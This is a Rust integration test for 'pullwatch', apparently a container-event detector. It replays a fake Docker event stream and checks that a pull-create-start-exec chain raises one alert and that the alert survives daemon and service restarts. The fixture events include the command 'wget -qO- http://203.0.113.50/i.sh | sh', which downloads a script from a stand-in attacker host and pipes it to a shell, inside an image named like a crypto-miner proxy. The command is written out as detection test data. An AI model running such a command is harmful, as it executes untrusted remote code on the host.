//! `pullwatch run --docker-socket` end to end, without a Docker engine: a fake Engine
//! API on a unix socket streams a recorded event stream (chunked, in the API's JSON
//! shape), the real binary raises the chain alert from it, then follows the daemon
//! through a restart (`since` from the last event, the overlap not counted twice) and
//! is itself restarted without sending the alert again. An optional test does the same
//! against Podman's Docker-compatible API when podman is installed.

use std::io::{Read, Write};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const C: &str = "c0ffee00d15ea5e5b0a710ad5eed1e55ba5eba11c0de5eed00ddba11fee1dead";
const IMG: &str = "ghcr.io/cr0wbar/xmr-proxy:2.1";

fn container(action: &str, t: i64, extra: &str) -> (i64, String) {
    let status = action.split(':').next().unwrap_or(action);
    (
        t,
        format!(
            r#"{{"status":"{status}","id":"{C}","from":"{IMG}","Type":"container","Action":"{action}","Actor":{{"ID":"{C}","Attributes":{{"image":"{IMG}","name":"metrics-sidecar"{extra}}}}},"scope":"local","time":{},"timeNano":{t}}}"#,
            t / 1_000_000_000
        ),
    )
}

/// Recorded from the Engine API (`GET /events`): a benign container first, then an
/// image from an untrusted registry pulled, created, started, and made to fetch and
/// run a script. `(timeNano, line)`.
fn recorded() -> Vec<(i64, String)> {
    let nginx = "a11ce5b0b5ca71eb0a7c0ffeec0ffee0ddf00dbaddecafe0f1e1d5a1ad0b5e55";
    vec![
        (1_795_166_100_000_000_000, r#"{"status":"pull","id":"nginx:1.27.2","Type":"image","Action":"pull","Actor":{"ID":"nginx:1.27.2","Attributes":{"name":"nginx"}},"scope":"local","time":1795166100,"timeNano":1795166100000000000}"#.to_string()),
        (1_795_166_102_000_000_000, format!(r#"{{"status":"create","id":"{nginx}","from":"nginx:1.27.2","Type":"container","Action":"create","Actor":{{"ID":"{nginx}","Attributes":{{"image":"nginx:1.27.2","maintainer":"NGINX Docker Maintainers <docker-maint@nginx.com>","name":"edge-proxy"}}}},"scope":"local","time":1795166102,"timeNano":1795166102000000000}}"#)),
        (1_795_166_160_000_000_000, format!(r#"{{"status":"pull","id":"{IMG}","Type":"image","Action":"pull","Actor":{{"ID":"{IMG}","Attributes":{{"name":"ghcr.io/cr0wbar/xmr-proxy"}}}},"scope":"local","time":1795166160,"timeNano":1795166160000000000}}"#)),
        container("create", 1_795_166_163_000_000_000, ""),
        container("start", 1_795_166_163_512_000_000, ""),
        container(
            "exec_create: sh -c wget -qO- http://203.0.113.50/i.sh | sh",
            1_795_166_189_990_000_000,
            r#","execID":"e2""#,
        ),
        container(
            "exec_start: sh -c wget -qO- http://203.0.113.50/i.sh | sh",
            1_795_166_190_000_000_000,
            r#","execID":"e2""#,
        ),
        container(
            "exec_die",
            1_795_166_190_400_000_000,
            r#","execID":"e2","exitCode":"0""#,
        ),
    ]
}

/// What the fake daemon does on one connection: replay what it logged at or after
/// `since` (as dockerd does), stream `new_events`, then hold the stream open until
/// `close` is set (or for good with `None`).
struct Conn {
    new_events: Vec<(i64, String)>,
    close: Option<Arc<AtomicBool>>,
    /// The daemon is down (its socket gone) this long before this connection.
    down_before: Duration,
}

struct Daemon {
    requests: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Daemon {
    fn start(path: PathBuf, mut log: Vec<(i64, String)>, conns: Vec<Conn>) -> Daemon {
        let requests = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen, halt) = (requests.clone(), stop.clone());
        let mut listener = Some(UnixListener::bind(&path).unwrap());
        let thread = std::thread::spawn(move || {
            for conn in conns {
                if !conn.down_before.is_zero() {
                    drop(listener.take());
                    let _ = std::fs::remove_file(&path);
                    std::thread::sleep(conn.down_before);
                    listener = Some(UnixListener::bind(&path).unwrap());
                }
                let Some(l) = &listener else { return };
                l.set_nonblocking(true).unwrap();
                let mut s = loop {
                    match l.accept() {
                        Ok((s, _)) => break s,
                        Err(_) if halt.load(Ordering::Relaxed) => return,
                        Err(_) => std::thread::sleep(Duration::from_millis(20)),
                    }
                };
                s.set_nonblocking(false).unwrap();
                let line = read_request(&mut s);
                seen.lock().unwrap().push(line.clone());
                let since: i64 = line
                    .split("since=")
                    .nth(1)
                    .and_then(|r| r.split([' ', '&']).next())
                    .and_then(|n| n.parse().ok())
                    .unwrap_or(0);
                let _ = s.write_all(b"HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nContent-Type: application/json\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/24.0.7 (linux)\r\nTransfer-Encoding: chunked\r\n\r\n");
                let replay: Vec<String> = log
                    .iter()
                    .filter(|(t, _)| t / 1_000_000_000 >= since)
                    .map(|(_, l)| l.clone())
                    .collect();
                for ev in replay.iter().chain(conn.new_events.iter().map(|(_, l)| l)) {
                    // dockerd flushes each event as its own chunk; split some in two.
                    let bytes = format!("{ev}\n").into_bytes();
                    let (a, b) = bytes.split_at(bytes.len() / 3);
                    for part in [a, b] {
                        let _ = write!(s, "{:x}\r\n", part.len());
                        let _ = s.write_all(part);
                        let _ = s.write_all(b"\r\n");
                    }
                    let _ = s.flush();
                }
                log.extend(conn.new_events);
                loop {
                    if halt.load(Ordering::Relaxed) {
                        return;
                    }
                    if conn
                        .close
                        .as_ref()
                        .is_some_and(|c| c.load(Ordering::Relaxed))
                    {
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(20));
                }
                // The daemon going away mid-stream: no closing chunk.
                drop(s);
            }
        });
        Daemon {
            requests,
            stop,
            thread: Some(thread),
        }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn read_request(s: &mut UnixStream) -> String {
    let mut buf = Vec::new();
    let mut b = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        match s.read(&mut b) {
            Ok(1) => buf.push(b[0]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&buf)
        .lines()
        .next()
        .unwrap_or("")
        .to_string()
}

fn wait_for(what: &str, deadline: Duration, mut ok: impl FnMut() -> bool) {
    let end = Instant::now() + deadline;
    while !ok() {
        assert!(Instant::now() < end, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn lines(path: &Path) -> Vec<String> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}

/// Every line of the spool's segments, in order.
fn spool_lines(state: &Path) -> Vec<String> {
    let Ok(rd) = std::fs::read_dir(state.join("spool")) else {
        return Vec::new();
    };
    let mut files: Vec<PathBuf> = rd.map(|e| e.unwrap().path()).collect();
    files.sort();
    files.iter().flat_map(|f| lines(f)).collect()
}

fn pullwatch_run(sock: &Path, state: &Path, alerts: &Path, log: &Path) -> Child {
    Command::new(env!("CARGO_BIN_EXE_pullwatch"))
        .arg("run")
        .arg("--docker-socket")
        .arg(sock)
        .arg("--state-dir")
        .arg(state)
        .arg("--output")
        .arg(alerts)
        .args(["--idle-timeout", "300ms", "--checkpoint-interval", "1s"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(log).unwrap())
        .spawn()
        .unwrap()
}

/// SIGTERM, then the exit within a deadline; returns whether it exited 0.
fn terminate(mut child: Child) -> bool {
    let ok = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok, "kill -TERM failed");
    let end = Instant::now() + Duration::from_secs(20);
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            return st.success();
        }
        if Instant::now() > end {
            let _ = child.kill();
            panic!("pullwatch run did not stop within 20s of SIGTERM");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn docker_events_over_the_socket_raise_the_chain_and_survive_restarts() {
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("docker.sock");
    let state = dir.path().join("state");
    let alerts = dir.path().join("alerts.jsonl");
    let log = dir.path().join("stderr.log");
    let events = recorded();
    let later = vec![
        container("die", 1_795_166_230_000_000_000, r#","exitCode":"137""#),
        container("destroy", 1_795_166_231_000_000_000, ""),
    ];
    let drop_first = Arc::new(AtomicBool::new(false));
    let daemon = Daemon::start(
        sock.clone(),
        Vec::new(),
        vec![
            Conn {
                new_events: events.clone(),
                close: Some(drop_first.clone()),
                down_before: Duration::ZERO,
            },
            Conn {
                new_events: later.clone(),
                close: None,
                down_before: Duration::from_millis(700),
            },
        ],
    );
    let child = pullwatch_run(&sock, &state, &alerts, &log);
    let diag = || std::fs::read_to_string(&log).unwrap_or_default();

    let end = Instant::now() + Duration::from_secs(30);
    while lines(&alerts).is_empty() {
        assert!(
            Instant::now() < end,
            "no alert; requests {:?}\nspool {:?}\nstderr {}",
            daemon.requests(),
            spool_lines(&state),
            diag()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let got = lines(&alerts);
    assert_eq!(got.len(), 1, "{got:?}\n{}", diag());
    let a: serde_json::Value = serde_json::from_str(&got[0]).unwrap();
    assert_eq!(a["rule"], "an0691.chain");
    assert_eq!(a["image"]["ref"], IMG);
    assert_eq!(a["entity"]["container_id"], C);
    let stages: Vec<&str> = a["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["stage"].as_str().unwrap())
        .collect();
    assert_eq!(stages, ["pull", "create", "start", "activity"]);
    for e in a["evidence"].as_array().unwrap() {
        assert_eq!(e["source"]["format"], "docker-events");
        assert!(
            e["source"]["path"].as_str().unwrap().contains("ingest-"),
            "{e}"
        );
    }
    assert_eq!(
        a["evidence"][3]["process"]["cmdline"],
        "sh -c wget -qO- http://203.0.113.50/i.sh | sh"
    );

    // The daemon restarts: the stream drops and the socket is gone for a while.
    drop_first.store(true, Ordering::Relaxed);
    wait_for("the reconnection", Duration::from_secs(20), || {
        daemon.requests().len() == 2
    });
    let reqs = daemon.requests();
    assert!(reqs[0].starts_with("GET /events?since="), "{reqs:?}");
    // A second before the last event appended (exec_die at …190.4s).
    assert_eq!(reqs[1], "GET /events?since=1795166189 HTTP/1.1");
    let mut expected: Vec<String> = events.iter().map(|(_, l)| l.clone()).collect();
    expected.extend(later.iter().map(|(_, l)| l.clone()));
    wait_for(
        "the new events in the spool",
        Duration::from_secs(20),
        || spool_lines(&state).len() >= expected.len(),
    );
    std::thread::sleep(Duration::from_millis(300));
    // The replayed second (exec_create, exec_start, exec_die) is not appended again.
    assert_eq!(spool_lines(&state), expected, "{}", diag());

    assert!(terminate(child), "{}", diag());
    drop(daemon);
    let _ = std::fs::remove_file(&sock);
    assert_eq!(lines(&alerts).len(), 1);

    // The service restarts: it asks from the persisted cursor, the daemon's replay
    // adds nothing, and the alert is not sent again.
    let mut log_all = events.clone();
    log_all.extend(later.clone());
    let daemon = Daemon::start(
        sock.clone(),
        log_all,
        vec![Conn {
            new_events: Vec::new(),
            close: None,
            down_before: Duration::ZERO,
        }],
    );
    let log2 = dir.path().join("stderr2.log");
    let child = pullwatch_run(&sock, &state, &alerts, &log2);
    wait_for(
        "the request after the restart",
        Duration::from_secs(20),
        || !daemon.requests().is_empty(),
    );
    assert_eq!(
        daemon.requests(),
        vec!["GET /events?since=1795166230 HTTP/1.1".to_string()]
    );
    // Long enough for the pipeline to read and go idle.
    std::thread::sleep(Duration::from_millis(1500));
    assert!(terminate(child));
    assert_eq!(spool_lines(&state), expected);
    assert_eq!(lines(&alerts).len(), 1);
}

/// Against Podman's Docker-compatible API, when podman is installed and its service
/// can run here: a container created through podman reaches the spool through the real
/// server's chunked event stream.
#[test]
fn podman_compat_events_reach_the_spool() {
    if Command::new("podman")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_err()
    {
        eprintln!("skipped: podman is not installed (apt-get install podman to run this test)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("podman.sock");
    let mut service = Command::new("podman")
        .args(["system", "service", "--time=0"])
        .arg(format!("unix://{}", sock.display()))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let end = Instant::now() + Duration::from_secs(15);
    while !sock.exists() && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(100));
    }
    if !sock.exists() {
        let _ = service.kill();
        let _ = service.wait();
        eprintln!("skipped: `podman system service` did not start here");
        return;
    }
    // An image of one file, made here: nothing is pulled from a registry.
    let rootfs = dir.path().join("rootfs");
    std::fs::create_dir_all(&rootfs).unwrap();
    std::fs::write(rootfs.join("hello"), "hi\n").unwrap();
    let tar = dir.path().join("rootfs.tar");
    let image = format!("localhost/pullwatch-test-{}:1", std::process::id());
    let name = format!("pullwatch-test-{}", std::process::id());
    let quiet = |args: &[&str]| {
        Command::new(args[0])
            .args(&args[1..])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    };
    assert!(quiet(&[
        "tar",
        "-C",
        rootfs.to_str().unwrap(),
        "-cf",
        tar.to_str().unwrap(),
        "."
    ]));
    let state = dir.path().join("state");
    let child = pullwatch_run(
        &sock,
        &state,
        &dir.path().join("alerts.jsonl"),
        &dir.path().join("stderr.log"),
    );
    // Connected once the service has made its spool; then give the stream a moment.
    wait_for("the spool", Duration::from_secs(20), || {
        state.join("spool").exists()
    });
    std::thread::sleep(Duration::from_millis(500));
    let made = quiet(&["podman", "import", tar.to_str().unwrap(), &image])
        && quiet(&["podman", "create", "--name", &name, &image, "/hello"]);
    if !made {
        let _ = terminate(child);
        quiet(&["podman", "rm", "-f", &name]);
        quiet(&["podman", "rmi", "-f", &image]);
        let _ = service.kill();
        let _ = service.wait();
        eprintln!("skipped: podman cannot import or create containers here");
        return;
    }
    let seen = {
        let end = Instant::now() + Duration::from_secs(20);
        loop {
            let hit = spool_lines(&state).iter().any(|l| {
                l.contains("\"Action\":\"create\"") && l.contains(&format!("\"name\":\"{name}\""))
            });
            if hit || Instant::now() > end {
                break hit;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    let stopped = terminate(child);
    quiet(&["podman", "rm", "-f", &name]);
    quiet(&["podman", "rmi", "-f", &image]);
    let _ = service.kill();
    let _ = service.wait();
    assert!(seen, "the create event never reached the spool");
    assert!(stopped);
}
